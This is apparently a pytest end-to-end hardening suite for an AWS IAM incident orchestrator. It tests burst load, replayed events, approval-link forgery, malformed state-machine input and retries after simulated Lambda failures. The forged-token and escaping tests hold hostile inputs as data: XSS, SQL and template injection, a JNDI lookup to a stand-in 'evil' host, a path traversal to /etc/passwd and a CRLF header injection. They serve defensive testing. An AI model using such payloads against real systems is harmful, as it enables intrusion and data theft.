"""Hardening: load, replay, forged approvals, malformed input and failing steps, on the deployed stack.

Everything runs against the session's local cloud with the stack deployed by
the real `sam deploy` (fixtures `local_cloud`, `deployed_stack`, `sam_build`),
through plain boto3 and HTTP. Time-outs (an approval nobody answers, a late
answer says "expired") are covered by tests/e2e/test_incident.py.

The burst figures go to build/hardening.json (key "burst"): timings are
measured here, asserted in benchmarks/ only.
"""

from __future__ import annotations

import io
import json
import re
import time
import uuid
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlencode

import boto3
import pytest
import requests

from cloud_fixtures import local_client
from workshop.localcloud import read_mailbox
from polling import wait_for
from stack_incidents import default_document

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
BAD = (ROOT / "policies/badpolicy.json").read_text()
GOOD = (ROOT / "policies/goodpolicy.json").read_text()
HARMLESS_SID = "RevertedBySecurityOrchestrator"
FIGURES = ROOT / "build" / "hardening.json"
BURST, THREADS = 50, 8


# --- plain boto3 / HTTP helpers ---------------------------------------------------------------


def aws(service: str):
    return boto3.client(service, region_name="us-east-1")


def is_reverted(iam, arn: str, bad_version: str = "v1") -> bool:
    versions = {v["VersionId"] for v in iam.list_policy_versions(PolicyArn=arn)["Versions"]}
    document = default_document(arn, iam)[1]
    return bad_version not in versions and any(s.get("Sid") == HARMLESS_SID for s in document.get("Statement", []))


def executions_by_policy(sfn, machine_arn: str) -> dict[str, list[dict]]:
    """policy ARN -> every execution (described) whose input is an event about it."""
    found: dict[str, list[dict]] = {}
    paginator = sfn.get_paginator("list_executions")
    for page in paginator.paginate(stateMachineArn=machine_arn):
        for execution in page["executions"]:
            described = sfn.describe_execution(executionArn=execution["executionArn"])
            detail = _detail(described)
            arn = ((detail.get("responseElements") or {}).get("policy") or {}).get("arn") or \
                (detail.get("requestParameters") or {}).get("policyArn")
            if arn:
                found.setdefault(arn, []).append(described)
    return found


def _detail(execution: dict) -> dict:
    given = json.loads(execution["input"])  # hand-started runs may carry anything
    detail = given.get("detail") if isinstance(given, dict) else None
    return detail if isinstance(detail, dict) else {}


def is_own_change(execution: dict) -> bool:
    detail = _detail(execution)
    return (detail.get("userIdentity") or {}).get("type") == "AssumedRole"


def states_entered(sfn, execution_arn: str) -> list[str]:
    events = sfn.get_execution_history(executionArn=execution_arn, maxResults=1000)["events"]
    return [e["stateEnteredEventDetails"]["name"] for e in events if "stateEnteredEventDetails" in e]


def history(sfn, execution_arn: str) -> list[dict]:
    return sfn.get_execution_history(executionArn=execution_arn, maxResults=1000)["events"]


def finished(sfn, execution_arn: str, timeout: float = 60) -> dict:
    return wait_for(lambda: (lambda d: d if d["status"] != "RUNNING" else None)(
        sfn.describe_execution(executionArn=execution_arn)), timeout=timeout, what=f"{execution_arn} to finish")


def approval_mails(endpoint: str, arn: str) -> list[dict]:
    return [m for m in read_mailbox(endpoint) if m["subject"].startswith("Approval needed") and arn in m["body"]]


def mails_about(endpoint: str, arn: str, subject_part: str) -> list[dict]:
    return [m for m in read_mailbox(endpoint) if subject_part in m["subject"] and arn in m["body"]]


def link(mail: dict, decision: str) -> str:
    return re.search(rf"(https?://\S+/{decision}\?\S+)", mail["body"]).group(1)


def fields_of(url: str) -> dict:
    """The signed link's fields (incident, expires, signature): what its confirmation form posts."""
    from urllib.parse import parse_qs, urlsplit

    return {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}


def _name(kind: str) -> str:
    return f"hard-{kind}-{uuid.uuid4().hex[:8]}"


def waiting_incident(stack: dict, endpoint: str, document: str = BAD, kind: str = "incident"):
    """A new risky policy, reverted, its incident waiting at AskUser: (arn, execution, approval mail)."""
    iam, sfn = aws("iam"), aws("stepfunctions")
    arn = iam.create_policy(PolicyName=_name(kind), PolicyDocument=document)["Policy"]["Arn"]
    wait_for(lambda: is_reverted(iam, arn), what=f"{arn} to be reverted")
    mail = wait_for(lambda: (approval_mails(endpoint, arn) or [None])[0], what=f"the approval e-mail for {arn}")
    incidents = [e for e in executions_by_policy(sfn, stack["StateMachineArn"]).get(arn, []) if not is_own_change(e)]
    assert len(incidents) == 1, incidents
    return arn, incidents[0], mail


def deny(mail: dict) -> requests.Response:
    url = link(mail, "deny")
    return requests.post(url.split("?")[0], data=fields_of(url), timeout=60)


def record_figures(key: str, figures: dict) -> None:
    FIGURES.parent.mkdir(parents=True, exist_ok=True)
    try:
        existing = json.loads(FIGURES.read_text())
    except (OSError, ValueError):
        existing = {}
    existing[key] = figures
    FIGURES.write_text(json.dumps(existing, indent=2) + "\n")


# --- load: a burst of incidents ------------------------------------------------------------------


def test_a_burst_of_risky_policies_is_handled_once_each(deployed_stack, local_cloud):
    """50 risky policies from 8 threads: 50 reverted, 50 incidents waiting at AskUser, none lost or doubled."""
    sfn, iam = aws("stepfunctions"), aws("iam")
    prefix = _name("burst")

    def create(index: int) -> str:
        client = boto3.client("iam", region_name="us-east-1")
        return client.create_policy(PolicyName=f"{prefix}-{index:02d}", PolicyDocument=BAD)["Policy"]["Arn"]

    started = time.perf_counter()
    with ThreadPoolExecutor(THREADS) as pool:
        arns = list(pool.map(create, range(BURST)))
    created_s = time.perf_counter() - started

    def all_asked():
        mails = [m for m in read_mailbox(local_cloud) if m["subject"].startswith("Approval needed") and prefix in m["body"]]
        return mails if len(mails) >= BURST else None

    mails = wait_for(all_asked, timeout=240, interval=0.25, what=f"{BURST} approval e-mails")
    elapsed = time.perf_counter() - started
    record_figures("burst", {"policies": BURST, "threads": THREADS, "create_calls_s": round(created_s, 2),
                             "all_reverted_and_asked_s": round(elapsed, 2),
                             "incidents_per_s": round(BURST / elapsed, 2),
                             "lambda_cold_starts": requests.get(local_cloud + "/_localcloud/health",
                                                                timeout=10).json().get("lambda_cold_starts")})

    by_policy = executions_by_policy(sfn, deployed_stack["StateMachineArn"])
    incidents = []
    try:
        for arn in arns:
            runs = by_policy.get(arn, [])
            mine = [e for e in runs if not is_own_change(e)]
            assert len(mine) == 1, f"{arn}: {len(mine)} incident executions (one per CreatePolicy event)"
            incident = mine[0]
            incidents.append(incident["executionArn"])
            event_id = json.loads(incident["input"])["detail"]["eventID"]
            assert incident["name"] == event_id  # named after the CloudTrail event
            assert all(e["status"] != "FAILED" for e in runs), [(e["name"], e["status"]) for e in runs]
            assert is_reverted(iam, arn)
            assert incident["status"] == "RUNNING" and states_entered(sfn, incident["executionArn"])[-1] == "AskUser"
            for own in (e for e in runs if is_own_change(e)):  # the revert's own CreatePolicyVersion
                assert finished(sfn, own["executionArn"])["status"] == "SUCCEEDED"
        asked = sorted(arn for arn in arns for m in mails if arn in m["body"])
        assert asked == sorted(arns), "each policy gets exactly one approval e-mail"
    finally:
        for execution_arn in incidents:  # nobody will answer these: end them
            sfn.stop_execution(executionArn=execution_arn, error="TestCleanup", cause="burst test done")


# --- replay: the same event delivered twice ---------------------------------------------------------


def test_a_replayed_cloudtrail_event_starts_no_second_incident(deployed_stack, local_cloud):
    sfn, events = aws("stepfunctions"), aws("events")
    arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="replay")
    delivered = json.loads(incident["input"])
    assert incident["name"] == delivered["detail"]["eventID"]

    entry = {"Source": delivered["source"], "DetailType": delivered["detail-type"],
             "Detail": json.dumps(delivered["detail"]), "Resources": delivered.get("resources", [])}
    for _ in range(2):  # EventBridge delivers at least once: the same CloudTrail event again, twice
        assert events.put_events(Entries=[entry])["FailedEntryCount"] == 0
    time.sleep(1.5)  # what a second execution would need to start and revert

    runs = executions_by_policy(sfn, deployed_stack["StateMachineArn"])[arn]
    assert [e["executionArn"] for e in runs if not is_own_change(e)] == [incident["executionArn"]]
    assert len(approval_mails(local_cloud, arn)) == 1
    assert deny(mail).status_code == 200
    assert finished(sfn, incident["executionArn"])["status"] == "SUCCEEDED"


def test_a_second_run_of_a_handled_event_ends_at_already_handled_without_asking(deployed_stack, local_cloud):
    """The state machine's own guard: the version is already gone, so nobody is asked twice."""
    sfn = aws("stepfunctions")
    arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="again")
    again = sfn.start_execution(stateMachineArn=deployed_stack["StateMachineArn"], input=incident["input"])
    done = finished(sfn, again["executionArn"], timeout=30)
    assert done["status"] == "SUCCEEDED"
    # IAM no longer holds the version the event names, because the first execution reverted it: nothing to judge.
    assert states_entered(sfn, again["executionArn"])[-2:] == ["CheckOwnOrGone", "AlreadyHandled"]
    assert len(approval_mails(local_cloud, arn)) == 1
    assert is_reverted(aws("iam"), arn)
    assert deny(mail).status_code == 200


# --- approvals against the deployed endpoint ----------------------------------------------------------


# A link is (incident, expires, signature); the tokens the old links carried are refused outright.
FORGED_TOKENS = {
    "forged": "AAAAQKeWR1Ayq0MdHkWl1hh3F9gaWzeCdQ1sw9vlbYb0Zm9yZ2Vk" * 4,
    "empty": "",
    "blank": "   ",
    "huge": "A" * 20_000,
    "binary": "\x00\x01\xff\xfe\u202e\ud7ff",
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert(1)>",
    "sql": "' OR '1'='1' --",
    "template": "{{7*7}}${7*7}",
    "jndi": "${jndi:ldap://evil/x}",
    "path": "../../../../etc/passwd",
    "crlf": "abc\r\nSet-Cookie: owned=1",
    "json": "{\"action\": \"allow\"}",
    "percent": "%00%0d%0a%3Cscript%3E",
}


def _assert_refused(response: requests.Response) -> None:
    assert 400 <= response.status_code < 500, (response.status_code, response.text[:300])
    body = response.text
    assert "Traceback" not in body and "Internal server error" not in body and "Exception" not in body
    assert "<script>" not in body.lower() and "onerror=" not in body.lower() and "owned=1" not in \
        response.headers.get("Set-Cookie", "")
    assert response.headers.get("Cache-Control") == "no-store"


@pytest.mark.parametrize("kind", sorted(FORGED_TOKENS))
def test_a_forged_or_malformed_token_or_link_is_refused_never_a_5xx(deployed_stack, kind):
    value = FORGED_TOKENS[kind]
    forged_link = {"incident": value, "expires": "9999999999", "signature": value}
    for base in (deployed_stack["ApproveUrl"], deployed_stack["DenyUrl"]):
        for fields in ({"token": value}, forged_link):
            _assert_refused(requests.post(base, data=fields, timeout=60))
            _assert_refused(requests.post(base, json=fields, timeout=60))
            _assert_refused(requests.post(base + "?" + urlencode(fields), timeout=60))
            _assert_refused(requests.get(base + "?" + urlencode(fields), timeout=60))


def test_odd_requests_to_the_decision_endpoint_are_refused_never_a_5xx(deployed_stack):
    approve = deployed_stack["ApproveUrl"]
    odd = [
        requests.post(approve, data=b"\xff\xfe\x00\x01" * 100, headers={"Content-Type": "application/octet-stream"},
                      timeout=60),
        requests.post(approve, data=b"{not json", headers={"Content-Type": "application/json"}, timeout=60),
        requests.post(approve, data=json.dumps(["token"]), headers={"Content-Type": "application/json"}, timeout=60),
        requests.post(approve, data=json.dumps({"token": {"nested": 1}}), headers={"Content-Type": "application/json"},
                      timeout=60),
        requests.post(approve, data="token=" + "%" * 3000, timeout=60),
        requests.post(approve, data=b"x" * 200_000, timeout=60),
        requests.put(approve, data={"token": FORGED_TOKENS["forged"]}, timeout=60),
        requests.delete(approve, timeout=60),
    ]
    for response in odd:
        _assert_refused(response)


def test_get_never_decides_and_a_used_approval_is_already_decided(deployed_stack, local_cloud):
    sfn = aws("stepfunctions")
    arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="decide")
    approve, deny_url = link(mail, "allow"), link(mail, "deny")
    for url in (approve, deny_url, approve + "&decision=allow", approve.replace("/allow?", "/allow/?")):
        assert requests.get(url, timeout=60).status_code in (200, 403)
        assert requests.head(url, timeout=60).status_code < 500
    time.sleep(0.5)
    assert sfn.describe_execution(executionArn=incident["executionArn"])["status"] == "RUNNING"

    first = requests.post(deployed_stack["DenyUrl"], data=fields_of(deny_url), timeout=60)
    assert first.status_code == 200 and "Denied" in first.text
    assert finished(sfn, incident["executionArn"])["status"] == "SUCCEEDED"

    for url, fields in ((deployed_stack["DenyUrl"], fields_of(deny_url)),  # the same link again, or the other one
                        (deployed_stack["ApproveUrl"], fields_of(approve))):
        again = requests.post(url, data=fields, timeout=60)
        assert again.status_code == 409 and "already denied" in again.text.lower(), again.text[:300]
        _assert_refused(again)
    assert is_reverted(aws("iam"), arn)  # the late "approve" restored nothing


def test_the_confirmation_page_escapes_what_it_echoes(deployed_stack, local_cloud):
    arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="escape")
    fields = fields_of(link(mail, "allow"))
    hostile = "\"><script>alert(1)</script><input name=\"incident\" value=\"x"
    refused = requests.get(deployed_stack["ApproveUrl"] + "?" + urlencode({**fields, "expires": hostile}), timeout=60)
    _assert_refused(refused)
    assert "<script>" not in refused.text and "<input" not in refused.text
    page = requests.get(deployed_stack["ApproveUrl"] + "?" + urlencode({**fields, "extra": hostile}), timeout=60)
    assert page.status_code == 200 and "<script>" not in page.text
    assert page.text.count('name="incident"') == 1  # no second field smuggled into the form
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    assert page.headers["Referrer-Policy"] == "no-referrer" and page.headers["X-Frame-Options"] == "DENY"
    assert deny(mail).status_code == 200


# --- malformed input ----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def isolated_machine(deployed_stack, local_cloud) -> str:
    """The deployed definition (same functions, topic, role) as a state machine of its own.

    Executions started by hand with odd input go here, so that the deployed
    machine's execution list holds only event-shaped inputs for other tests.
    """
    # module-scoped: set up before the per-test environment points boto3 at the local cloud
    sfn = local_client(local_cloud, "stepfunctions")
    deployed = sfn.describe_state_machine(stateMachineArn=deployed_stack["StateMachineArn"])
    created = sfn.create_state_machine(name=_name("malformed"), definition=deployed["definition"],
                                       roleArn=deployed["roleArn"])
    yield created["stateMachineArn"]
    sfn.delete_state_machine(stateMachineArn=created["stateMachineArn"])


def _failure(sfn, execution_arn: str) -> tuple[str, str]:
    done = finished(sfn, execution_arn, timeout=30)  # promptly: no hang
    assert done["status"] == "FAILED", done["status"]
    return done.get("error", ""), done.get("cause", "")


@pytest.mark.parametrize("given", [
    {},
    {"source": "aws.iam", "detail-type": "AWS API Call via CloudTrail"},
    {"detail": None},
    {"detail": {"eventName": "CreatePolicy", "eventID": "x"}},
    {"detail": {"eventID": "x", "requestParameters": {"policyDocument": "{not json"}}},
    [1, 2, 3],
])
def test_an_input_that_is_not_a_policy_event_is_reported_and_fails_saying_what_is_missing(isolated_machine,
                                                                                            local_cloud, given):
    sfn = aws("stepfunctions")
    started = sfn.start_execution(stateMachineArn=isolated_machine, input=json.dumps(given))
    error, cause = _failure(sfn, started["executionArn"])
    assert error == "InvalidEvent"
    assert "detail.eventID" in cause and "detail.eventName" in cause and "events/" in cause
    assert states_entered(sfn, started["executionArn"])[-2:] == ["ReportUnrecognisedEvent", "InvalidEvent"]
    assert wait_for(lambda: mails_about(local_cloud, started["executionArn"], "Unrecognised IAM event"),
                    what="the e-mail about the event")  # fail closed: an admin hears of it


def _hand_made_event(arn: str, document: str, version: str = "v1") -> dict:
    sample = json.loads((ROOT / "events" / "create_policy.json").read_text())
    detail = sample["detail"]
    detail["eventID"] = str(uuid.uuid4())
    detail["requestParameters"]["policyDocument"] = document
    detail["requestParameters"]["policyName"] = arn.rsplit("/", 1)[-1]
    detail["responseElements"]["policy"].update(arn=arn, defaultVersionId=version,
                                                policyName=arn.rsplit("/", 1)[-1])
    detail["userIdentity"] = {"type": "Root", "arn": "arn:aws:iam::123456789012:root"}
    return sample


def test_a_policy_the_judge_cannot_read_stays_reverted_and_a_human_is_asked(deployed_stack, local_cloud):
    """Fail closed: IAM holds a document with a duplicate key, which the judge refuses to resolve."""
    sfn, iam = aws("stepfunctions"), aws("iam")
    ambiguous = ('{"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:DeleteBucket", '
                 '"Action": "s3:GetObject", "Resource": "*"}]}')
    arn = iam.create_policy(PolicyName=_name("unreadable"), PolicyDocument=ambiguous)["Policy"]["Arn"]
    mail = wait_for(lambda: (approval_mails(local_cloud, arn) or [None])[0], what="the approval e-mail")
    assert "could not be checked" in mail["body"] and "InvalidPolicyDocument" in mail["body"]
    assert is_reverted(iam, arn)
    [started] = [e for e in executions_by_policy(sfn, deployed_stack["StateMachineArn"])[arn] if not is_own_change(e)]
    assert states_entered(sfn, started["executionArn"])[-1] == "AskUser"
    failed = [e for e in history(sfn, started["executionArn"]) if e["type"] == "TaskFailed"
              or e["type"] == "LambdaFunctionFailed"]
    assert failed and "duplicate" in json.dumps(failed, default=str)
    assert deny(mail).status_code == 200
    assert finished(sfn, started["executionArn"])["status"] == "SUCCEEDED" and is_reverted(iam, arn)


def test_an_event_about_a_policy_iam_does_not_hold_asks_nobody(isolated_machine, local_cloud):
    """The event only points: whatever document it carries, what IAM lacks is nothing to judge or restore;
    the admin is told what was seen and that it is gone."""
    sfn = aws("stepfunctions")
    missing = f"arn:aws:iam::123456789012:policy/{_name('missing')}"
    started = sfn.start_execution(stateMachineArn=isolated_machine,
                                  input=json.dumps(_hand_made_event(missing, BAD)))
    done = finished(sfn, started["executionArn"], timeout=30)
    assert done["status"] == "SUCCEEDED"
    assert states_entered(sfn, started["executionArn"])[-2:] == ["CheckOwnOrGone", "ReportGone"]
    assert not approval_mails(local_cloud, missing)


# --- failing steps -------------------------------------------------------------------------------------


def _package(folder: Path, extra: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                archive.write(path, path.relative_to(folder).as_posix())
        for name, text in (extra or {}).items():
            archive.writestr(name, text)
    return buffer.getvalue()


class replaced_handler:
    """Deploy `wrapper` (a module named `hardening_wrapper` around the real app.handler) for a function; restore after."""

    def __init__(self, built: Path, logical_id: str, wrapper: str):
        self.folder = built.parent / logical_id
        self.logical_id, self.wrapper = logical_id, wrapper
        self.lam = aws("lambda")

    def __enter__(self):
        stack = f"e2e-orchestrator-{self.logical_id}"
        self.function = next(f for f in self.lam.list_functions()["Functions"]
                             if f["FunctionName"].startswith(stack))["FunctionName"]
        self.lam.update_function_code(FunctionName=self.function,
                                      ZipFile=_package(self.folder, {"hardening_wrapper.py": self.wrapper}))
        self.lam.update_function_configuration(FunctionName=self.function, Handler="hardening_wrapper.handler")
        return self

    def __exit__(self, *exc):
        self.lam.update_function_configuration(FunctionName=self.function, Handler="app.handler")
        self.lam.update_function_code(FunctionName=self.function, ZipFile=_package(self.folder))


class Marks:
    """What a replaced handler did, counted in an S3 bucket of the local cloud.

    The functions run in a sandbox that cannot see the test's files (as on
    Lambda), so they tell the test through the local cloud, as a real
    function would: `code` defines `mark()` and `count()` for the handler.
    """

    def __init__(self, name: str):
        self.bucket = _name(name).lower()
        self.s3 = aws("s3")
        self.s3.create_bucket(Bucket=self.bucket)
        # the replaced handler runs as its function's role, which the template grants nothing in S3: the
        # bucket's own policy lets the account's principals mark it (a same-account resource policy grants)
        self.s3.put_bucket_policy(Bucket=self.bucket, Policy=json.dumps({
            "Version": "2012-10-17", "Statement": [{
                "Effect": "Allow", "Principal": "*", "Action": ["s3:PutObject", "s3:ListBucket"],
                "Resource": [f"arn:aws:s3:::{self.bucket}", f"arn:aws:s3:::{self.bucket}/*"],
                "Condition": {"StringEquals": {"aws:PrincipalAccount": "123456789012"}}}]}))
        self.code = (
            "import uuid\nimport boto3\n\n"
            f"_MARKS = {self.bucket!r}\n\n"
            "def mark():\n"
            "    boto3.client('s3').put_object(Bucket=_MARKS, Key=uuid.uuid4().hex, Body=b'x')\n\n"
            "def count():\n"
            "    return boto3.client('s3').list_objects_v2(Bucket=_MARKS).get('KeyCount', 0)\n\n"
        )

    def count(self) -> int:
        return self.s3.list_objects_v2(Bucket=self.bucket).get("KeyCount", 0)


def test_a_transient_revert_error_is_retried_and_the_incident_goes_on(deployed_stack, local_cloud, sam_build):
    marks = Marks("revert-failed-once")
    wrapper = marks.code + (
        "import app\n\n"
        "class TransientError(Exception):\n    pass\n\n"
        "def handler(event, context):\n"
        "    if not count():\n"
        "        mark()\n"
        "        raise TransientError('IAM was busy (simulated once by the hardening test)')\n"
        "    return app.handler(event, context)\n"
    )
    sfn = aws("stepfunctions")
    with replaced_handler(sam_build, "RevertPolicy", wrapper):
        arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="transient")
    assert marks.count() == 1
    events = history(sfn, incident["executionArn"])
    failures = [e for e in events if e["type"] in ("TaskFailed", "LambdaFunctionFailed")]
    assert len(failures) == 1 and "TransientError" in json.dumps(failures[0], default=str)
    assert states_entered(sfn, incident["executionArn"]).count("TempRemove") == 1  # retried inside the state
    assert deny(mail).status_code == 200
    assert finished(sfn, incident["executionArn"])["status"] == "SUCCEEDED"


def test_a_revert_that_keeps_failing_is_retried_a_bounded_number_of_times_then_notified(deployed_stack, local_cloud,
                                                                                         sam_build):
    """TransientError every time: 1 + 3 attempts (Retry MaxAttempts 3), then the incident fails and says so."""
    attempts = Marks("revert-attempts")
    wrapper = attempts.code + (
        "class TransientError(Exception):\n    pass\n\n"
        "def handler(event, context):\n"
        "    mark()\n"
        "    raise TransientError('IAM stays busy (simulated by the hardening test)')\n"
    )
    sfn, iam = aws("stepfunctions"), aws("iam")
    with replaced_handler(sam_build, "RevertPolicy", wrapper):
        arn = iam.create_policy(PolicyName=_name("revertfails"), PolicyDocument=BAD)["Policy"]["Arn"]
        notice = wait_for(lambda: (mails_about(local_cloud, arn, "Security incident failed") or [None])[0],
                          timeout=60, what="the failure e-mail")
    assert attempts.count() == 4
    assert "TransientError" in notice["body"] and "check it by hand" in notice["body"]
    incident, = [e for e in executions_by_policy(sfn, deployed_stack["StateMachineArn"])[arn] if not is_own_change(e)]
    done = finished(sfn, incident["executionArn"])
    assert done["status"] == "FAILED" and done["error"] == "IncidentFailed"
    assert not approval_mails(local_cloud, arn)  # nothing to approve: the revert never happened
    assert iam.get_policy(PolicyArn=arn)["Policy"]["DefaultVersionId"] == "v1"  # told to check it by hand


def test_a_restore_that_keeps_failing_ends_failed_notified_and_still_reverted(deployed_stack, local_cloud,
                                                                             sam_build):
    """Approved, but RestorePolicy fails every time: the incident fails, the admin is told, nothing is restored."""
    wrapper = (
        "def handler(event, context):\n"
        "    raise RuntimeError('RestorePolicy is broken (simulated by the hardening test)')\n"
    )
    sfn = aws("stepfunctions")
    arn, incident, mail = waiting_incident(deployed_stack, local_cloud, kind="restorefails")
    with replaced_handler(sam_build, "RestorePolicy", wrapper):
        approve = link(mail, "allow")
        answer = requests.post(approve.split("?")[0], data=fields_of(approve), timeout=60)
        assert answer.status_code == 200  # the decision was recorded; what follows is the incident's
        done = finished(sfn, incident["executionArn"])
    assert done["status"] == "FAILED" and done["error"] == "IncidentFailed"
    notice = wait_for(lambda: (mails_about(local_cloud, arn, "Security incident failed") or [None])[0],
                      what="the failure e-mail")
    assert "RuntimeError" in notice["body"] and "check it by hand" in notice["body"]
    assert is_reverted(aws("iam"), arn)


def test_a_revert_retried_after_it_did_its_work_still_asks_a_human(deployed_stack, local_cloud, sam_build):
    """The revert succeeds but its answer is lost (a transient error after the work): the retry must still ask."""
    marks = Marks("revert-answer-lost-once")
    wrapper = marks.code + (
        "import app\n\n"
        "class TransientError(Exception):\n    pass\n\n"
        "def handler(event, context):\n"
        "    result = app.handler(event, context)\n"
        "    if not count():\n"
        "        mark()\n"
        "        raise TransientError('the answer was lost after the revert (simulated by the hardening test)')\n"
        "    return result\n"
    )
    sfn, iam = aws("stepfunctions"), aws("iam")
    with replaced_handler(sam_build, "RevertPolicy", wrapper):
        arn = iam.create_policy(PolicyName=_name("lostanswer"), PolicyDocument=BAD)["Policy"]["Arn"]
        wait_for(lambda: is_reverted(iam, arn), what=f"{arn} to be reverted")

        def settled():
            runs = [e for e in executions_by_policy(sfn, deployed_stack["StateMachineArn"]).get(arn, [])
                    if not is_own_change(e)]
            if len(runs) != 1:
                return None
            entered = states_entered(sfn, runs[0]["executionArn"])
            return runs[0] if entered and entered[-1] in ("AskUser", "AlreadyHandled", "IncidentFailed") else None

        incident = wait_for(settled, timeout=30, what="the incident to ask or to end")
    entered = states_entered(sfn, incident["executionArn"])
    assert entered[-1] == "AskUser", entered
    mail = wait_for(lambda: (approval_mails(local_cloud, arn) or [None])[0], what="the approval e-mail")
    assert len(approval_mails(local_cloud, arn)) == 1
    assert deny(mail).status_code == 200
